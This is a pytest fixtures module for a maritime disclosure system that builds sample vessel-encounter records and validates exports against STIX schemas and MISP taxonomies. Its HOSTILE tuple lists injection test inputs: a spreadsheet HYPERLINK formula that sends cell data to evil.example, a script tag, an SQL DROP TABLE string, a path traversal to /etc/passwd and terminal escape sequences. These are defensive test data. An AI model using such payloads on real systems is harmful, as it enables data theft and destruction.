"""Disclosures to write, among them hostile ones; the OASIS schemas and MISP's own taxonomies to judge them by."""

import json
from pathlib import Path
from typing import Any

import pytest

from shiprider.model.disclosure import Disclosure, Presence, VesselClaim
from shiprider.model.label import written

#: Beside the repository, or beside the folder of its worktrees.
_PLACES = [Path(__file__).resolve().parents[up] / "shared" / "data" for up in (5, 6)]
SHARED = next((place for place in _PLACES if place.is_dir()), _PLACES[0])
#: 2026-01-01T00:00Z.
T0 = 20_454 * 86_400_000_000
HOUR = 3_600_000_000

RESTRICTED = written("policy=COALITION class=RESTRICTED rel=nations:COL,USA tlp=AMBER").text
SECRET = written("policy=NATO class=SECRET rel=nations:COL,USA;organisations:JIATF caveats=ORCON").text
CLEAR = written("policy=COALITION class=UNCLASSIFIED rel=* tlp=CLEAR").text

#: Texts as somebody at sea, or in between, may send them.
HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r\n=1+1", "  =1+1", "＝1+1",
    "<script>alert(1)</script>", "'; DROP TABLE record;--", "../../etc/passwd", "\x1b[2J\x1b]0;owned\x07",
    "\u202eevil\u202c", "\x00null", "\ud800", "a\",\"b\"\r\nc", "{\"type\":\"bundle\"}", "x" * 5000, "ÅÄÖ 漢字 🚢",
)  # fmt: skip


def disclosure(number: int = 1, **changes: Any) -> Disclosure:
    given: dict[str, Any] = {
        "record": f"{number:032x}",
        "revision": 1,
        "kind": "finding",
        "origin": "col",
        "created_us": T0 + 123_456,
        "modified_us": T0 + HOUR + 999_999,
        "own_label": RESTRICTED,
        "title": "Encounter: 235000001 and 235000002",
        "text": "Two vessels lay side by side for 1 h 20 min.",
        "behaviours": ("encounter",),
        "preset": "skylight",
        "start_us": T0,
        "end_us": T0 + HOUR,
        "latitude_deg": 16.0004,
        "longitude_deg": -74.5,
        "score": 0.9,
        "state": "closed",
        "simulated": False,
        "participants": (235000001, 235000002),
        "vessels": (
            VesselClaim(
                mmsi=235000001,
                name="SEA FOX",
                callsign="MABC1",
                imo=9074729,
                ship_type=30,
                flag="GBR",
                label=SECRET,
            ),
            VesselClaim(mmsi=235000002, flag="GBR", label=RESTRICTED),
        ),
        "presences": (Presence(mmsi=235000001, start_us=T0, end_us=T0 + HOUR, count=64),),
        "facts": {"duration_s": 4800, "distance_m": 60.5},
    }
    return Disclosure(**{**given, **changes})


def alert(number: int = 2, **changes: Any) -> Disclosure:
    return disclosure(
        number, kind="alert", state="new", probability=0.72, presences=(), findings=(f"{1:032x}",), **changes
    )


def words(text: str) -> str:
    return f"marked {text}"


@pytest.fixture(scope="session")
def oasis() -> Any:
    """`check(object)` raises where an object does not fit the OASIS schema of its type."""
    folder = SHARED / "stix" / "schemas"
    if not folder.is_dir():
        pytest.skip(f"{folder} is absent: the OASIS schemas are in the shared data")
    from jsonschema import Draft202012Validator
    from referencing import Registry, Resource

    base = "http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas"
    registry: Any = Registry()
    kinds = {}
    for path in folder.rglob("*.json"):
        schema = json.loads(path.read_text())
        schema["$schema"] = "https://json-schema.org/draft/2020-12/schema"
        uri = f"{base}/{path.relative_to(folder)}"
        schema["$id"] = uri
        registry = registry.with_resource(uri, Resource.from_contents(schema))
        kinds[path.stem] = schema

    def check(given: dict[str, Any]) -> None:
        Draft202012Validator(kinds[given["type"]], registry=registry).validate(given)

    return check


@pytest.fixture(scope="session")
def taxonomies() -> Any:
    """`known(tag)`: whether MISP's own taxonomies have it."""
    folder = SHARED / "misp" / "taxonomies"
    if not folder.is_dir():
        pytest.skip(f"{folder} is absent: MISP's taxonomies are in the shared data")
    names = set()
    for path in folder.glob("*/machinetag.json"):
        given = json.loads(path.read_text())
        values = {each["predicate"]: each["entry"] for each in given.get("values", [])}
        for each in given["predicates"]:
            of = values.get(each["value"])
            stem = f"{given['namespace']}:{each['value']}"
            names |= {f'{stem}="{entry["value"]}"' for entry in of} if of else {stem}
    return names.__contains__
